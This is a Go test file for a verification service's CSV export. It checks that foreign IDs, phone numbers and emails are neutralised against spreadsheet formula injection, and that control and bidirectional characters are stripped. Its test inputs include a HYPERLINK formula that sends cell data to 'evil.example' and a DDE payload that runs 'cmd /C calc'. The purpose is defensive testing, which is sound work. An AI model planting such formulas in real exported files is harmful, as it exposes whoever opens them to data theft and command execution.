package verify_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openverify/verify"
)

// csvColumn is the index of a CSVHeader column.
func csvColumn(t *testing.T, name string) int {
	t.Helper()
	for i, c := range verify.CSVHeader {
		if c == name {
			return i
		}
	}
	t.Fatalf("no column %q in %v", name, verify.CSVHeader)
	return -1
}

// csvRows writes the whole report and parses it back with encoding/csv,
// keyed by verification ID.
func csvRows(t *testing.T, h *harness, opts verify.CSVOptions) map[string][]string {
	t.Helper()
	var buf bytes.Buffer
	require.NoError(t, h.eng.WriteCSV(h.ctx, &buf, verify.Query{}, opts))
	r := csv.NewReader(&buf)
	r.FieldsPerRecord = len(verify.CSVHeader)
	rows, err := r.ReadAll()
	require.NoError(t, err)
	require.NotEmpty(t, rows)
	assert.Equal(t, verify.CSVHeader, rows[0])
	byID := make(map[string][]string, len(rows)-1)
	for _, row := range rows[1:] {
		byID[row[0]] = row
	}
	return byID
}

func TestCSVNeutralisesForeignID(t *testing.T) {
	h := newHarness(t)
	h.flow(verify.Step{Channel: "sms"})
	cases := []struct{ name, in, want string }{
		{"equals", "=1+1", "'=1+1"},
		{"plus", "+1+1", "'+1+1"},
		{"minus", "-1+1", "'-1+1"},
		{"at", "@SUM(1+1)", "'@SUM(1+1)"},
		{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"dde", `@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"leading tab", "\t=1+1", "'\t=1+1"},
		{"leading CR", "\r=1+1", "'\r=1+1"},
		{"negative number", "-5", "'-5"},
		{"NUL removed", "ord\x00er-1", "order-1"},
		{"NUL hides a formula", "\x00=1+1", "'=1+1"},
		{"RLO removed", "invoice\u202Efdp.exe", "invoicefdp.exe"},
		{"bidi marks and isolates removed", "\u200Ea\u200Fb\u202Ac\u202Bd\u202Ce\u202Df\u2066g\u2067h\u2068i\u2069", "abcdefghi"},
		{"bidi override hides a formula", "\u202E=1+1", "'=1+1"},
		{"other C0, DEL and C1 removed", "a\x01b\x1bc\x7fd\u0085e\u009bf", "abcdef"},
		{"ordinary text", "order-42", "order-42"},
		{"ordinary text with punctuation", `Ünïcødé, "quoted" a=b +1 @home`, `Ünïcødé, "quoted" a=b +1 @home`},
		{"inner newline kept", "line 1\nline 2", "line 1\nline 2"},
		{"empty", "", ""},
	}
	ids := map[string]int{}
	for i, c := range cases {
		to := verify.Recipient{Phone: fmt.Sprintf("+4790000%03d", i)}
		v, err := h.eng.Send(h.ctx, verify.SendRequest{To: to, ForeignID: c.in})
		require.NoError(t, err, c.name)
		ids[v.ID] = i
	}

	fid := csvColumn(t, "foreign_id")
	for _, opts := range []verify.CSVOptions{{}, {Unmasked: true}} {
		rows := csvRows(t, h, opts)
		require.Len(t, rows, len(cases))
		for id, i := range ids {
			c := cases[i]
			row, ok := rows[id]
			require.True(t, ok, "no row for %s", c.name)
			assert.Equal(t, c.want, row[fid], "%s (unmasked=%v)", c.name, opts.Unmasked)
		}
	}
}

func TestCSVKeepsE164PhoneAndEngineCells(t *testing.T) {
	h := newHarness(t)
	h.flow(verify.Step{Channel: "sms"}, verify.Step{Channel: "email", After: time.Minute})
	v, err := h.eng.Send(h.ctx, verify.SendRequest{
		To:        verify.Recipient{Phone: "+4712345678", Email: "ana@example.com"},
		ForeignID: "customer-7",
	})
	require.NoError(t, err)

	rows := csvRows(t, h, verify.CSVOptions{Unmasked: true})
	row := rows[v.ID]
	require.NotNil(t, row)
	assert.Equal(t, "+4712345678", row[csvColumn(t, "mobile")], "a valid E.164 number keeps its +")
	assert.Equal(t, "ana@example.com", row[csvColumn(t, "email")])
	assert.Equal(t, "customer-7", row[csvColumn(t, "foreign_id")])
	assert.Equal(t, v.ID, row[csvColumn(t, "id")])
	assert.Equal(t, v.FlowID, row[csvColumn(t, "flow_id")])
	assert.Equal(t, "sent", row[csvColumn(t, "status")])
	assert.Equal(t, "sms", row[csvColumn(t, "channels")])
	assert.Equal(t, "0", row[csvColumn(t, "attempts")])
	assert.Equal(t, "1", row[csvColumn(t, "sends")])
	assert.Equal(t, start.Format(time.RFC3339), row[csvColumn(t, "created_at")])
	assert.Equal(t, v.ExpiresAt.Format(time.RFC3339), row[csvColumn(t, "expires_at")])
	assert.Equal(t, "", row[csvColumn(t, "verified_at")])

	rows = csvRows(t, h, verify.CSVOptions{})
	assert.Equal(t, "+47******78", rows[v.ID][csvColumn(t, "mobile")], "the mask of a valid number keeps its +")
	assert.Equal(t, "a***@example.com", rows[v.ID][csvColumn(t, "email")])
}

// rawPhones accepts whatever it is given as the "E.164" number, as a
// careless custom PhoneParser might.
type rawPhones struct{}

func (rawPhones) ParsePhone(raw string) (verify.PhoneInfo, error) {
	return verify.PhoneInfo{E164: raw, Type: verify.NumberUnknown}, nil
}

func TestCSVPhoneThatIsNotE164IsFreeText(t *testing.T) {
	h := newHarness(t, verify.WithPhoneParser(rawPhones{}))
	h.flow(verify.Step{Channel: "sms"})
	cases := []struct{ in, unmasked, masked string }{
		{"-5", "'-5", "**"},
		{"+47 12 34 56 78", "'+47 12 34 56 78", "'+47**********78"},
		{"+0123456789", "'+0123456789", "'+01******89"},
		{"+1234567890123456", "'+1234567890123456", "'+12************56"}, // 16 digits
		{"=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")", "'=HY**********\")"},
		{"@SUM(1+1)", "'@SUM(1+1)", "'@SU****1)"},
		{"+47\u202E12345678", "'+4712345678", "'+47*********78"},
	}
	ids := map[string]int{}
	for i, c := range cases {
		v, err := h.eng.Send(h.ctx, verify.SendRequest{To: verify.Recipient{Phone: c.in}})
		require.NoError(t, err, c.in)
		ids[v.ID] = i
	}
	mobile := csvColumn(t, "mobile")
	unmasked := csvRows(t, h, verify.CSVOptions{Unmasked: true})
	masked := csvRows(t, h, verify.CSVOptions{})
	for id, i := range ids {
		c := cases[i]
		assert.Equal(t, c.unmasked, unmasked[id][mobile], "unmasked %q", c.in)
		assert.Equal(t, c.masked, masked[id][mobile], "masked %q", c.in)
	}
}

func TestCSVNeutralisesEmail(t *testing.T) {
	h := newHarness(t)
	h.flow(verify.Step{Channel: "email"})
	v, err := h.eng.Send(h.ctx, verify.SendRequest{To: verify.Recipient{Email: "=1+1@example.com"}})
	require.NoError(t, err)
	email := csvColumn(t, "email")
	assert.Equal(t, "'=1+1@example.com", csvRows(t, h, verify.CSVOptions{Unmasked: true})[v.ID][email])
	assert.Equal(t, "'=***@example.com", csvRows(t, h, verify.CSVOptions{})[v.ID][email])
}
